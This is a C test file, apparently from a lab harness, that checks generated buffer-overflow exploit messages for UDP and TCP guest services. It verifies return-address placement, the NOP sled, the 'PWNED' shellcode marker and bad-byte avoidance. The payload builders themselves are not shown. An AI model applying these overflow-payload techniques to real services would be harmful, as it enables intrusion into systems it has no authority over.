/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Checks of the Linux-guest exploit messages without a guest: layout,
 * forbidden bytes, and refusal of what the services could not carry.
 */
#include <string.h>

#include "linux-guest.h"
#include "payloads.h"
#include "shellcode.h"

static guint64 le64_at(const GByteArray *a, gsize off)
{
    guint64 v;

    g_assert_cmpuint(off + 8, <=, a->len);
    memcpy(&v, a->data + off, 8);
    return GUINT64_FROM_LE(v);
}

static gboolean contains(const GByteArray *a, gsize from, const char *s)
{
    gsize n = strlen(s);

    for (gsize i = from; i + n <= a->len; i++) {
        if (memcmp(a->data + i, s, n) == 0) {
            return TRUE;
        }
    }
    return FALSE;
}

static void test_shellcode(void)
{
    g_autoptr(GByteArray) code = g_byte_array_new();
    g_autofree char *too_long = g_strnfill(101, 'x');

    g_assert_true(vgl_shellcode_append(code, VGL_MARK_PWNED_UDP));
    g_assert_true(contains(code, 0, VGL_MARK_PWNED_UDP));
    g_assert_null(memchr(code->data, '\n', code->len));

    /* Refused, and nothing appended. */
    g_byte_array_set_size(code, 0);
    g_assert_false(vgl_shellcode_append(code, ""));
    g_assert_false(vgl_shellcode_append(code, too_long));
    g_assert_false(vgl_shellcode_append(code, "two\nlines"));
    g_assert_false(vgl_shellcode_append(code, "123456789"));  /* len 9 */
    g_assert_cmpuint(code->len, ==, 0);
}

static void test_udp_layout(void)
{
    VglTarget t = { .buf_addr = VGL_UDP_PKT_ADDR };
    g_autoptr(GError) err = NULL;
    g_autoptr(GByteArray) msg = vgl_udp_exploit(&t, &err);
    const gsize taglen = VGL_UDP_RET_OFFSET + 8;
    guint64 ret;

    g_assert_no_error(err);
    g_assert_cmpmem(msg->data, 3, "VG\x01", 3);
    g_assert_cmpuint(msg->data[3], ==, taglen);
    /* Every slot of the tag holds the return address... */
    ret = le64_at(msg, 4);
    for (gsize off = 4; off < 4 + taglen; off += 8) {
        g_assert_cmpuint(le64_at(msg, off), ==, ret);
    }
    /* ...which points into the sled that follows, in pkt[]. */
    g_assert_cmpuint(ret, >=, VGL_UDP_PKT_ADDR + 4 + taglen);
    g_assert_cmpuint(ret, <, VGL_UDP_PKT_ADDR + 4 + taglen +
                     VGL_UDP_SLED_LEN);
    g_assert_cmpuint(msg->data[ret - VGL_UDP_PKT_ADDR], ==, 0x90);
    g_assert_true(contains(msg, 4 + taglen, VGL_MARK_PWNED_UDP));
    /* One unfragmented datagram; fits the service's 2048-byte buffer. */
    g_assert_cmpuint(msg->len, <=, 1472);
}

static void test_tcp_layout(void)
{
    VglTarget t = { .buf_addr = VGL_TCP_LINE_ADDR };
    g_autoptr(GError) err = NULL;
    g_autoptr(GByteArray) line = vgl_tcp_exploit(&t, &err);
    const gsize name_len = VGL_TCP_RET_OFFSET + 8;
    const gsize sled_off = 5 + name_len + 1;
    guint64 ret;

    g_assert_no_error(err);
    g_assert_cmpmem(line->data, 5, "NAME ", 5);
    ret = le64_at(line, 5);
    for (gsize off = 5; off < 5 + name_len; off += 8) {
        g_assert_cmpuint(le64_at(line, off), ==, ret);
    }
    /* The name stops exactly at the space before the sled. */
    g_assert_true(vgl_bytes_clean(line->data + 5, name_len, " \t\r\n", 4));
    g_assert_cmpuint(line->data[5 + name_len], ==, ' ');
    g_assert_cmpuint(ret, >=, VGL_TCP_LINE_ADDR + sled_off);
    g_assert_cmpuint(ret, <, VGL_TCP_LINE_ADDR + sled_off +
                     VGL_TCP_SLED_LEN);
    /* One line: a single '\n', at the end; under the 1536-byte limit. */
    g_assert_cmpuint(line->data[line->len - 1], ==, '\n');
    g_assert_null(memchr(line->data, '\n', line->len - 1));
    g_assert_cmpuint(line->len, <, 1536);
    g_assert_true(contains(line, sled_off, VGL_MARK_PWNED_TCP));
}

static void test_bad_addresses(void)
{
    g_autoptr(GError) err = NULL;
    /* 0x20 (space) in the low byte would end the TCP name field. */
    VglTarget t = { .buf_addr = VGL_TCP_LINE_ADDR,
                    .ret_addr = G_GUINT64_CONSTANT(0x7fffffffe820) };
    GByteArray *line = vgl_tcp_exploit(&t, &err);

    g_assert_null(line);
    g_assert_error(err, VGL_ERROR, VGL_ERROR_PAYLOAD);
    g_clear_error(&err);

    /* Chosen automatically, the address steps over such bytes: the
     * sled's middle would be ...e809 (tab), then ...e80a (newline). */
    t.ret_addr = 0;
    t.buf_addr = G_GUINT64_CONSTANT(0x7fffffffe809) - (5 + VGL_TCP_RET_OFFSET + 8 + 1) -
                 VGL_TCP_SLED_LEN / 2;
    line = vgl_tcp_exploit(&t, &err);
    g_assert_no_error(err);
    g_assert_cmpuint(le64_at(line, 5), ==, G_GUINT64_CONSTANT(0x7fffffffe80b));
    g_byte_array_unref(line);
}

int main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/linux-payloads/shellcode", test_shellcode);
    g_test_add_func("/linux-payloads/udp-layout", test_udp_layout);
    g_test_add_func("/linux-payloads/tcp-layout", test_tcp_layout);
    g_test_add_func("/linux-payloads/bad-addresses", test_bad_addresses);
    return g_test_run();
}
